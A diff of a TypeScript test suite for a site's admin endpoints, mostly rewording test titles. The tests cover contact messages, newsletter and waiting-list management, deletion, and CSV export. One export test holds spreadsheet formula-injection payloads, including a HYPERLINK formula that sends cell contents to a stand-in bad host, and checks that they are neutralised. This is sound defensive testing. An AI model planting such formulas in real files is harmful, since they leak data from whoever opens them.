@@ -31,7 +31,7 @@ const write = (more: Partial<typeof message> = {}) =>
 		.returning();
 
 describe("the messages of the contact form", () => {
-	it("come newest first, in pages, with their number", async () => {
+	it("are listed newest first, in pages, with their total", async () => {
 		for (const subject of ["uno", "dos", "tres"]) await write({ subject });
 		expect(await page("contact/all?size=2")).toMatchObject({
 			items: [{ ...message, subject: "tres", handledAt: null }, { subject: "dos" }],
@@ -48,12 +48,12 @@ describe("the messages of the contact form", () => {
 		expect([found.total, found.items[0].name]).toEqual([1, "Rosa Ñahui"]);
 	});
 
-	it.each([["%"], ["_"], ["'"], ["\\"]])("are not found by the sign %j, which means nothing here", async (sign) => {
+	it.each([["%"], ["_"], ["'"], ["\\"]])("are not found by the pattern character %j", async (sign) => {
 		await write();
 		expect(await page(`contact/all?search=${encodeURIComponent(sign)}`)).toMatchObject({ items: [], total: 0 });
 	});
 
-	it("are marked as attended to once, and not any more, and listed by that", async () => {
+	it("can be marked as handled and unhandled, idempotently, and filtered by it", async () => {
 		const [[first], [second]] = [await write(), await write()];
 		const marked = await ask("PUT", `contact/handled/${first!.id}`, { handled: true });
 		const again = await ask("PUT", `contact/handled/${first!.id}`, { handled: true });
@@ -70,7 +70,7 @@ describe("the messages of the contact form", () => {
 });
 
 describe("the newsletter and the waiting list", () => {
-	it("come newest first, found by the address, and counted", async () => {
+	it("are listed newest first, searched by address, and counted", async () => {
 		for (const name of ["ana", "rosa"]) {
 			await joinNewsletter(server.deps, `${name}@correo.pe`);
 			await joinWaitingList(server.deps, `${name}@correo.pe`);
@@ -88,7 +88,7 @@ describe("the newsletter and the waiting list", () => {
 	});
 });
 
-describe("somebody who asks to be removed", () => {
+describe("the removal of an address", () => {
 	const joinAll = async (email: string) => {
 		await joinNewsletter(server.deps, email);
 		await joinWaitingList(server.deps, email);
@@ -105,7 +105,7 @@ describe("somebody who asks to be removed", () => {
 		await joinAll("ana@correo.pe");
 	});
 
-	it("is first shown with all that is kept of the address", async () => {
+	it("first shows all entries of the address", async () => {
 		for (const list of ["contact", "newsletter", "waiting-list"] as const) {
 			expect(await page(`subscribers/traces/${list}/${await idIn(list)}`)).toEqual({
 				...{ email: "rosa@correo.pe", messages: 2, newsletter: true, waitingList: true, forwarded: false },
@@ -119,23 +119,26 @@ describe("somebody who asks to be removed", () => {
 		["contact", [3, 2, 2]],
 		["newsletter", [4, 1, 2]],
 		["waiting-list", [4, 2, 1]],
-	])("goes from %s alone", async (list, left) => {
+	])("can be limited to %s", async (list, left) => {
 		const path = `${list}/delete/${await idIn(list)}`;
 		expect((await ask("DELETE", path)).status).toBe(200);
 		expect(await totals()).toEqual(left);
 		expect((await ask("DELETE", path)).status).toBe(404);
 	});
 
-	it.each(["contact", "newsletter", "waiting-list"] as const)("goes from everywhere by %s", async (list) => {
-		const answer = await ask("DELETE", `${list}/delete/${await idIn(list)}?everywhere=true`);
-		expect([answer.json.message, answer.json.data]).toEqual([
-			"Correo eliminado de todas las listas",
-			{ messages: 2, newsletter: 1, waitingList: 1 },
-		]);
-		expect(await totals()).toEqual([2, 1, 1]);
-	});
+	it.each(["contact", "newsletter", "waiting-list"] as const)(
+		"deletes the address from all lists, starting from %s",
+		async (list) => {
+			const answer = await ask("DELETE", `${list}/delete/${await idIn(list)}?everywhere=true`);
+			expect([answer.json.message, answer.json.data]).toEqual([
+				"Correo eliminado de todas las listas",
+				{ messages: 2, newsletter: 1, waitingList: 1 },
+			]);
+			expect(await totals()).toEqual([2, 1, 1]);
+		},
+	);
 
-	it("goes with the kept mail that repeats the message, and with no other", async () => {
+	it("deletes the kept mail with the message, and no other", async () => {
 		const input = { ...message, email: "eva@correo.pe" };
 		await receiveContactMessage(server.deps, input);
 		for (const one of [input, { ...input, message: "Otro" }])
@@ -147,10 +150,10 @@ describe("somebody who asks to be removed", () => {
 	});
 });
 
-describe("a list as a file", () => {
+describe("the export of a list", () => {
 	const download = (list: SubscriberList) => server.call("GET", `/admin/${list}/export`, { token: admin.token });
 
-	it("is a private attachment of the day, with a mark that says UTF-8, and times of Lima", async () => {
+	it("is a private attachment named by the day, with a UTF-8 byte order mark and times of Lima", async () => {
 		const createdAt = new Date("2026-11-22T03:04:05Z");
 		await server.deps.db.insert(waitingList).values({ email: "ana@correo.pe", createdAt, forwardedAt: createdAt });
 		await server.deps.db.insert(newsletterSubscriptions).values({ email: "ana@correo.pe", createdAt });
@@ -172,7 +175,7 @@ describe("a list as a file", () => {
 		expect(names).toEqual(["mensajes-2026-11-21.csv", "boletin-2026-11-21.csv", "lista-de-espera-2026-11-21.csv"]);
 	});
 
-	it("has no formula in it, whatever people call themselves and write", async () => {
+	it("contains no formulas, whatever names and messages people write", async () => {
 		const formula = '=HYPERLINK("https://malo.pe?"&A1,"clic")';
 		await server.call("POST", "/contacto", {
 			body: { name: "＝1+1", email: "-2+3@correo.pe", subject: "@SUM(1)", message: `${formula}\n;=2` },
@@ -185,7 +188,7 @@ describe("a list as a file", () => {
 		expect((await download("newsletter")).text).toContain(`;"'=cmd@correo.pe"`);
 	});
 
-	it("has everybody of a long list once, newest first, also when it is zipped", async () => {
+	it("contains each entry of a long list once, newest first, also compressed", async () => {
 		await server.deps.db.$client.query(
 			"insert into waiting_list (email) select 'p' || n || '@correo.pe' from generate_series(1, 2500) n",
 		);
@@ -200,7 +203,9 @@ describe("a list as a file", () => {
 	});
 });
 
-it("a hundred thousand entries are listed, found and exported in good time", { timeout: 60_000 }, async () => {
+it("lists, searches and exports a hundred thousand entries within the request's deadline", {
+	timeout: 60_000,
+}, async () => {
 	for (const from of [1, 50_001]) {
 		await server.deps.db.$client.query(
 			`insert into contact_messages (name, email, subject, message)
